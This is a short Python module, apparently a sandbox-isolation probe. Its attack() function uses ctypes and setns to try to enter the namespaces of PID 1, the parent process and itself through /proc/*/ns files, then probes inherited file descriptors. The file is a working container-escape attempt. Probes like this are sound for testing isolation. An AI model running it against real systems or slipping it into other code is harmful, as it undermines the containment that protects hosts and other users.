"""Enter the machine's namespaces through the files that name them."""

import ctypes
import os

KINDS = ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup", "time")


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    for pid in ("1", str(os.getppid()), "self", "thread-self"):
        for kind in KINDS:
            try:
                descriptor = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
            except OSError:
                continue
            if libc.setns(descriptor, 0) == 0:
                return f"entered the {kind} namespace of {pid}"
    for descriptor in range(10):
        if libc.setns(descriptor, 0) == 0:
            return f"descriptor {descriptor} is a namespace"
